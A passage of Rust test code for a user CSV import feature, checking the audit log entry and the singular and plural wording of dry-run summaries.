    // The import-level event stays, naming the import too.
    let details: String = audit_events::table
        .filter(audit_events::action.eq("users.import"))
        .select(audit_events::details)
        .first(&mut db.conn())
        .expect("import event");
    let details: serde_json::Value = serde_json::from_str(&details).expect("json");
    assert_eq!(details["import"], 42);
    assert_eq!(details["created"], 2);
});

both!(counts_of_one_row_are_singular, |db| {
    let file = "email,first_name,last_name\nann@example.com,Ann,Lee\n";
    let r = ok(run_as(
        db,
        &Actor::system(),
        file.as_bytes(),
        &options(ImportMode::DryRun),
        &config(),
    ));
    assert_eq!(
        r.summary(),
        "1 row: would create 1, skipped 0, rejected 0 (dry run: nothing written)"
    );
    let two = "email,first_name,last_name\nann@example.com,Ann,Lee\nbob@example.com,Bob,Ray\n";
    let r = ok(run_as(
        db,
        &Actor::system(),
        two.as_bytes(),
        &options(ImportMode::DryRun),
        &config(),
    ));
    assert!(r.summary().starts_with("2 rows: "), "{}", r.summary());
    assert_eq!(imports::rows(0), "0 rows");
    assert_eq!(imports::plural(1, "user", "users"), "1 user");
});
